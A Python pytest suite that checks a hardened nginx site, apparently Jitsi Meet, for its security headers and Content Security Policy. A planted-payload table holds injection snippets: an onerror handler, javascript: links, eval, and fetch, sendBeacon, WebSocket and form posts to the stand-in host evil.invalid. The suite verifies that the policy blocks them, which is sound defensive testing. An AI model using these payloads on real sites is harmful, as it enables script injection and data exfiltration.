"""The headers of build/nginx: on every kind of path, harmless to the site, deadly to what a person plants in it.

'headers' is the hardened site with them; 'bare' is the same site, the same locations, and no headers: the control.
"""

from __future__ import annotations

import base64
import hashlib
import http.client
import re
import socket
from html.parser import HTMLParser
from typing import TYPE_CHECKING
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Error, expect

from .background import RECORD, blur
from .conftest import SNIPPETS, Visit, enter
from .test_lib import HELPERS, server  # noqa: F401 (a fixture)

if TYPE_CHECKING:
    from collections.abc import Callable

    from playwright.sync_api import BrowserContext, Route


pytestmark = [pytest.mark.upstream, pytest.mark.slow]

HEADERS: dict[str, str] = dict(
    re.findall(r'^add_header (\S+) "?(.*?)"? always;$', (SNIPPETS / "security-headers.conf").read_text(), re.MULTILINE)
)

# Path class: a path of it, the method, and the status that is expected.
PATHS = {
    "welcome": ("/", "GET", 200),
    "index": ("/index.html", "GET", 200),
    "room": ("/SomeRoom", "GET", 200),
    "room with a query": ("/SomeRoom?jwt=x", "GET", 200),
    "tenant": ("/tenant/SomeRoom", "GET", 200),
    "tenant's configuration": ("/tenant/config.js", "GET", 200),
    "configuration": ("/config.js", "GET", 200),
    "interface configuration": ("/interface_config.js", "GET", 200),
    "manifest": ("/manifest.json", "GET", 200),
    "service worker": ("/pwa-worker.js", "GET", 200),
    "robots": ("/robots.txt", "GET", 200),
    "external api": ("/external_api.js", "GET", 200),
    "script": ("/libs/app.bundle.min.js", "GET", 200),
    "versioned script": ("/libs/app.bundle.min.js?v=0123456789abcdef", "GET", 200),
    "worker": ("/libs/lib-jitsi-meet.e2ee-worker.js", "GET", 200),
    "wasm": ("/libs/olm.wasm", "GET", 200),
    "style": ("/css/all.css", "GET", 200),
    "language": ("/lang/main.json", "GET", 200),
    "static page": ("/static/close2.html", "GET", 200),
    "sound": ("/sounds/joined.opus", "GET", 200),
    "picture": ("/images/favicon.svg", "GET", 200),
    "font folder": ("/fonts/none.woff2", "GET", 404),
    "bosh": ("/http-bind", "POST", 200),
    "bosh preflight": ("/http-bind", "OPTIONS", 200),
    "websocket": ("/xmpp-websocket", "GET", 200),
    "bridge that is down": ("/colibri-ws/default-id/x/y", "GET", 502),
    "source map": ("/libs/app.bundle.min.js.map", "GET", 404),
    "shell script": ("/scripts/lang-sort.sh", "GET", 404),
    "folder": ("/libs/", "GET", 403),
    "missing file": ("/libs/none.js", "GET", 404),
    "manifest of WEBCAT": ("/.well-known/webcat/bundle.json", "GET", 404),
    "wrong method": ("/libs/app.bundle.min.js", "POST", 405),
    "name that is no room": ("/a'b", "GET", 404),
    "backslash": ("/%5C%5Cevil.invalid/room", "GET", 404),
    "bridge, but no conference": ("/colibri-ws/default-id/x%20y", "GET", 404),
}


def _ask(address: str, path: str, method: str) -> tuple[int, dict[str, list[str]], bytes]:
    connection = http.client.HTTPConnection(urlsplit(address).netloc, timeout=10)
    connection.request(method, path)
    answer = connection.getresponse()
    headers: dict[str, list[str]] = {}
    for name, value in answer.getheaders():
        headers.setdefault(name, []).append(value)
    body = answer.read()
    connection.close()
    return answer.status, headers, body


@pytest.mark.parametrize("name", PATHS)
def test_every_kind_of_path_has_every_header_once(site: Callable[[str], str], name: str) -> None:
    path, method, status = PATHS[name]
    assert len(HEADERS) == 9
    for variant, expected in (("headers", {name: [value] for name, value in HEADERS.items()}), ("bare", {})):
        got, headers, _ = _ask(site(variant), path, method)
        assert got == status
        assert {name: values for name, values in headers.items() if name in HEADERS} == expected
        assert "Access-Control-Allow-Origin" not in headers


def test_malformed_request_is_answered_with_headers(site: Callable[[str], str]) -> None:
    answers = {}
    for variant in ("headers", "bare"):
        with socket.create_connection(("127.0.0.1", urlsplit(site(variant)).port or 0), timeout=10) as raw:
            raw.sendall(b"GET / HTTP/1.1\r\n\r\n")  # no Host
            answers[variant] = raw.makefile("rb").read().decode()
    assert all(" 400 " in answer.splitlines()[0] for answer in answers.values())
    assert {name for name in HEADERS if f"\n{name}: " in answers["headers"]} == set(HEADERS)
    assert {name for name in HEADERS if f"\n{name}: " in answers["bare"]} == set()


def test_pages_and_configuration_are_not_stored(site: Callable[[str], str]) -> None:
    """Pages and settings; what has a version is kept in test_delivery.py."""
    kept = {path: _ask(site("headers"), path, "GET")[1].get("Cache-Control") for path in ("/", "/Room", "/config.js")}

    assert set(map(str, kept.values())) == {"['no-store']"}


def test_tenant_reaches_its_configuration(site: Callable[[str], str]) -> None:
    """A page of a tenant names the tenant's config.js, and server-side includes name the tenant in that file."""
    page = _ask(site("headers"), "/tenant/SomeRoom", "GET")[2]
    configuration = _ask(site("headers"), "/tenant/config.js", "GET")[2]

    assert b'src="tenant/config.js"' in page
    assert b'src="config.js"' in _ask(site("headers"), "/SomeRoom", "GET")[2]
    assert b"subdir = 'tenant/'" in configuration
    assert b"<!--#" not in page + configuration


class Inline(HTMLParser):
    """Collects what script-src and style-src refuse: inline scripts (with their hash), styles and handlers."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []
        self.inside = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found += [f"{tag} {name}" for name, _ in attrs if name.startswith("on") or name == "style"]
        self.inside = tag if tag == "style" or (tag == "script" and "src" not in dict(attrs)) else ""

    def handle_endtag(self, _tag: str) -> None:
        self.inside = ""

    def handle_data(self, data: str) -> None:
        if self.inside and data.strip():
            digest = base64.b64encode(hashlib.sha256(data.encode()).digest()).decode()
            self.found.append(f"{self.inside} 'sha256-{digest}'")


def _inline(address: str, path: str) -> list[str]:
    parser = Inline()
    parser.feed(_ask(address, path, "GET")[2].decode())
    return parser.found


PAGES = [
    "/",
    *(f"/static/{name}.html" for name in ("404", "close", "close2", "dialInInfo", "offline", "prejoin")),
    *(f"/static/{name}.html" for name in ("recommendedBrowsers", "webrtcUnsupported")),
    *(f"/static/{name}.html" for name in ("logout", "msredirect", "oauth", "sso", "whiteboard")),
]


@pytest.mark.parametrize("path", PAGES)
def test_page_has_nothing_inline(site: Callable[[str], str], path: str) -> None:
    """A page that was removed has nothing, either."""
    assert _inline(site("headers"), path) == []


def test_inline_scripts_of_upstream_are_found(site: Callable[[str], str]) -> None:
    """The control of the test above: two scripts and two configurations, and a handler."""
    assert [source.split()[0] for source in _inline(site("unpatched"), "/")] == ["script"] * 4
    assert _inline(site("unpatched"), "/static/404.html") == ["a onclick"]


WATCH = """
window.violations = [];
document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI, sourceFile, sample }) =>
    violations.push([ effectiveDirective, blockedURI, sourceFile, sample ].join(' ')));
"""

COMPLAINT = re.compile("Content.Security.Policy|Permissions.Policy|Cross-Origin-Opener|violates", re.IGNORECASE)
# Chromium knows these on some systems only; elsewhere it says so, and nothing else happens.
NOT_EVERYWHERE = re.compile("Unrecognized feature: '(bluetooth|web-share)'")


@pytest.fixture
def watched(context: BrowserContext, visit: Callable[..., Visit]) -> Callable[[str, str], tuple[Visit, list[str]]]:
    """Open a page that records violations; returns the visit and what the console said about policies."""
    context.add_init_script(WATCH)

    def open_page(variant: str, path: str) -> tuple[Visit, list[str]]:
        complaints: list[str] = []

        def listen(text: str) -> None:
            if COMPLAINT.search(text) and not NOT_EVERYWHERE.search(text):
                complaints.append(text)

        context.on("console", lambda message: listen(message.text))
        return visit(variant, path), complaints

    return open_page


READY = {
    "/": "#enter_room_field",
    "/SomeRoom": '[data-testid="prejoin.joinMeeting"]',
    "/tenant/SomeRoom": '[data-testid="prejoin.joinMeeting"]',
    "/static/close2.html": "main",
    "/static/404.html": "main",
    "/static/offline.html": "h1",
    "/static/dialInInfo.html": "#react > *",
    "/static/recommendedBrowsers.html": "h1",
}


@pytest.mark.parametrize("path", READY)
def test_page_breaks_no_rule(watched: Callable[[str, str], tuple[Visit, list[str]]], path: str) -> None:
    seen, complaints = watched("headers", path)
    seen.wait_for(READY[path])
    seen.come_to_rest()

    assert seen.page.evaluate("violations") == []
    assert complaints == []
    assert seen.foreign == []


ADD = """
window.add = (name, properties) => {
    const element = Object.assign(document.createElement(name), properties);
    document.body.append(element);
    return element;
};
undefined;
"""

# What a person plants, and the directive that has to stop it.
PLANTED = {
    "inline script": ("script-src-elem", "add('script', { textContent: 'window.planted = true' })"),
    "inline handler": ("script-src-attr", "add('p').innerHTML = '<img src=x: onerror=window.planted=true>'"),
    "javascript link": ("script-src-elem", "add('a', { href: 'javascript:void(window.planted = true)' }).click()"),
    "eval": ("script-src", "eval('window.planted = true')"),
    "function from text": ("script-src", "new Function('window.planted = true')()"),
    "timer from text": ("script-src", "setTimeout('window.planted = true')"),
    "script from a blob": (
        "script-src-elem",
        "add('script', { src: URL.createObjectURL(new Blob([ 'window.planted = true' ])) })",
    ),
    "script from data": ("script-src-elem", "add('script', { src: 'data:text/javascript,window.planted=true' })"),
    "worker from data": (
        "worker-src",
        "new Worker('data:text/javascript,postMessage(1)').onmessage = () => { window.planted = true }",
    ),
    "worker from a blob": (
        "worker-src",
        "new Worker(URL.createObjectURL(new Blob([ 'postMessage(1)' ]))).onmessage = () => { window.planted = true }",
    ),
    "base": (
        "base-uri",
        """document.head.prepend(Object.assign(document.createElement('base'), { href: 'https://evil.invalid/' }));
        window.planted = document.baseURI.includes('evil')""",
    ),
    "foreign script": ("script-src-elem", "add('script', { src: 'https://evil.invalid/a.js' })"),
    "foreign module": ("script-src-elem", "import('https://evil.invalid/a.mjs').catch(() => 0)"),
    "foreign image": ("img-src", "new Image().src = 'https://evil.invalid/pixel.png'"),
    "foreign fetch": ("connect-src", "fetch('https://evil.invalid/').catch(() => 0)"),
    "foreign request": (
        "connect-src",
        "const one = new XMLHttpRequest(); one.open('GET', 'https://evil.invalid/'); one.send()",
    ),
    "foreign beacon": ("connect-src", "navigator.sendBeacon('https://evil.invalid/', 'x')"),
    "foreign events": ("connect-src", "new EventSource('https://evil.invalid/')"),
    "foreign socket": ("connect-src", "new WebSocket('wss://evil.invalid/')"),
    "foreign style": ("style-src-elem", "add('link', { rel: 'stylesheet', href: 'https://evil.invalid/a.css' })"),
    "inline style": (
        "style-src-elem",
        "add('style', { textContent: 'p { background: url(https://evil.invalid/b.png) }' }); add('p')",
    ),
    "foreign font": ("font-src", "new FontFace('f', 'url(https://evil.invalid/f.woff2)').load().catch(() => 0)"),
    "foreign frame": ("frame-src", "add('iframe', { src: 'https://evil.invalid/' })"),
    "foreign sound": ("media-src", "new Audio('https://evil.invalid/a.mp3').load()"),
    "foreign plugin": ("object-src", "add('object', { data: 'https://evil.invalid/a' })"),
    "foreign form": ("form-action", "add('form', { action: 'https://evil.invalid/', method: 'post' }).submit()"),
}


@pytest.mark.parametrize("name", PLANTED)
def test_planted_violation_is_blocked(watched: Callable[[str, str], tuple[Visit, list[str]]], name: str) -> None:
    """And nothing blocks it where the headers are missing."""
    directive, code = PLANTED[name]
    done, blocked = {}, {}
    for variant in ("bare", "headers"):
        seen, _ = watched(variant, "/static/404.html")
        seen.page.on("websocket", lambda websocket, seen=seen: seen.foreign.append(websocket.url))
        seen.page.evaluate(ADD)
        # In a timer: what Playwright itself evaluates is not subject to the policy's rule about eval.
        seen.page.evaluate(f"() => {{ setTimeout(() => {{ {code} }}) }}")

        def happened(seen: Visit = seen) -> tuple[bool, bool]:
            try:
                planted, violations = seen.page.evaluate(
                    "[ Boolean(window.planted), violations.map(one => one.split(' ')[0]) ]"
                )
            except Error:  # the form leaves the page
                planted, violations = False, []
            return planted or any("evil.invalid" in url for url in seen.foreign), directive in violations

        seen.wait_until(lambda: any(happened()), f"{name}, done or blocked,")
        done[variant], blocked[variant] = happened()

    assert done == {"bare": True, "headers": False}
    assert blocked == {"bare": False, "headers": True}


@pytest.mark.parametrize("name", ["data: image", "wasm", "own fetch", "own socket", "own worker", "empty style"])
def test_what_the_site_needs_is_not_blocked(
    watched: Callable[[str, str], tuple[Visit, list[str]]], site: Callable[[str], str], name: str
) -> None:
    """The other way round: the policy is not so strict that the planted things above are blocked by accident."""
    address = site("headers")
    code = {
        "data: image": "const one = new Image(); one.onload = () => { window.planted = true }; one.src = "
        "'data:image/gif;base64,R0lGODlhAQABAAAAACH5BAEKAAEALAAAAAABAAEAAAICTAEAOw=='",
        "wasm": "WebAssembly.instantiate(new Uint8Array([ 0, 97, 115, 109, 1, 0, 0, 0 ])).then("
        "() => { window.planted = true })",
        "own fetch": "fetch('/config.js').then(() => { window.planted = true })",
        "own socket": f"new WebSocket('{address.replace('http', 'ws')}/xmpp-websocket').onerror = "
        "() => { window.planted = true }",
        "own worker": "const timer = new Worker('/static/hardener/background-timer.js'); timer.postMessage({ id: 1, "
        "timeMs: 1 }); timer.onmessage = () => { window.planted = true }",
        "empty style": "const one = add('style'); one.sheet.insertRule('p { color: red }'); window.planted = true",
    }[name]
    seen, complaints = watched("headers", "/static/404.html")
    seen.page.evaluate(ADD)
    seen.page.evaluate(f"() => {{ setTimeout(() => {{ {code} }}) }}")
    seen.wait_until(lambda: seen.page.evaluate("Boolean(window.planted) || violations.length > 0"), name)

    assert seen.page.evaluate("violations") == []
    assert complaints == []


def test_only_the_own_origin_may_frame_a_page(context: BrowserContext, site: Callable[[str], str]) -> None:
    framed = {}
    for variant in ("bare", "headers"):
        # A page of the own origin without a policy of its own, and a page of the site on another port.
        for parent, path in ((variant, "/parent"), ("hardened", "/static/404.html")):
            page = context.new_page()
            page.route("**/parent", lambda route: route.fulfill(body="<body>", content_type="text/html"))
            page.goto(site(parent) + path)
            page.evaluate(
                """url => new Promise(onload => document.body.append(
                    Object.assign(document.createElement('iframe'), { src: url, onload })))""",  # also when refused
                f"{site(variant)}/static/offline.html",
            )
            framed[variant, parent == variant] = page.frames[1].url.startswith("http")
            page.close()

    assert framed == {
        ("bare", True): True,
        ("bare", False): True,
        ("headers", True): True,
        ("headers", False): False,
    }


def test_page_that_opened_us_has_no_hold_on_us(context: BrowserContext, site: Callable[[str], str]) -> None:
    """The IFrame API also takes orders from an opener; Cross-Origin-Opener-Policy leaves none."""
    openers = {}
    for variant, other in (("bare", "headers"), ("headers", "bare")):
        page = context.new_page()
        page.route("**/opener", lambda route: route.fulfill(body="<body>", content_type="text/html"))
        page.goto(f"{site(other)}/opener")
        with page.expect_popup() as popup:
            page.evaluate("url => { window.open(url) }", f"{site(variant)}/static/404.html")
        popup.value.wait_for_selector("main")
        openers[variant] = popup.value.evaluate("Boolean(window.opener)")

    assert openers == {"bare": True, "headers": False}


@pytest.mark.usefixtures("server")
def test_encrypted_conference_breaks_no_rule(watched: Callable[[str, str], tuple[Visit, list[str]]]) -> None:
    """Log in, and make a conference with end-to-end encryption: a worker of our own origin, and WebAssembly."""
    seen, complaints = watched("headers", "/")
    seen.wait_for("#enter_room_field")
    seen.page.evaluate(HELPERS)
    supported = seen.page.evaluate(
        """async () => {
            const connection = connectionTo({ serviceUrl: `ws://${location.host}/xmpp-websocket` });
            await login(connection, 'password');
            return connection.initJitsiConference('room', {}).isE2EESupported();
        }"""
    )
    for name in ("lib-jitsi-meet.e2ee-worker.js", "olm.wasm"):
        seen.wait_until(lambda name=name: any(name in url for url in seen.requests), name)
    seen.come_to_rest()

    assert supported
    assert seen.page.evaluate("violations") == []
    assert complaints == []


@pytest.mark.full_browser
def test_settings_and_blurred_background_break_no_rule(
    watched: Callable[[str, str], tuple[Visit, list[str]]], context: BrowserContext
) -> None:
    """Every tab of the settings, and the camera's picture with a background: WebAssembly, and a timer in a worker."""
    context.add_init_script(RECORD)
    seen, complaints = watched("headers", "/SomeRoom")
    blur(seen)
    started = seen.page.evaluate("started")
    assert "/static/hardener/background-timer.js" in started
    assert "blob:" not in started
    assert seen.page.evaluate("answers") >= 3
    for tab in seen.page.get_by_role("tab").all():
        tab.click()
        expect(tab).to_have_attribute("aria-selected", "true")
        seen.come_to_rest()
    seen.page.locator("#modal-dialog-ok-button").click()
    expect(seen.page.locator("#modal-dialog-ok-button")).to_be_hidden()
    seen.come_to_rest()

    assert seen.page.evaluate("violations") == []
    assert complaints == []


@pytest.mark.full_browser
@pytest.mark.usefixtures("open_house")
def test_background_of_upstream_starts_its_timer_from_a_blob(
    context: BrowserContext, visit: Callable[..., Visit]
) -> None:
    """The control of the test above."""
    context.add_init_script(RECORD)
    seen = visit("unpatched", "/SomeRoom")
    blur(seen)

    assert "blob:" in seen.page.evaluate("started")


WORDS = [
    pytest.param("'wasm-unsafe-eval'", marks=pytest.mark.full_browser),
    *re.findall("'sha256-[^']+'", HEADERS["Content-Security-Policy"]),
    "base-uri 'self'",
]  # Not here: "data:" in img-src, for pictures that a person takes as background or avatar, which no journey does yet.


@pytest.mark.usefixtures("xmpp")
@pytest.mark.parametrize("word", WORDS)
def test_page_breaks_a_stricter_rule(context: BrowserContext, site: Callable[[str], str], word: str) -> None:
    """Each word of the policy that is not plain 'self' is needed: what is not may go."""
    context.add_init_script(WATCH)
    address = site("headers")
    page = context.new_page()

    def answer(route: Route) -> None:
        response = route.fetch()
        policy = response.headers["content-security-policy"]
        stricter = policy.replace(word, "base-uri 'none'" if word.startswith("base") else "")
        route.fulfill(response=response, headers=response.headers | {"content-security-policy": stricter})

    page.route("**/SomeRoom", answer)
    page.goto(f"{address}/SomeRoom")
    for step in (
        lambda: enter(page, READY["/SomeRoom"]),
        page.get_by_role("button", name="Select Background").click,
        page.get_by_role("radio", name="Blur", exact=True).click,
    ):
        if not page.evaluate("violations"):  # most come with the page
            step()
    Visit(page).wait_until(lambda: page.evaluate("violations") != [], "a violation")
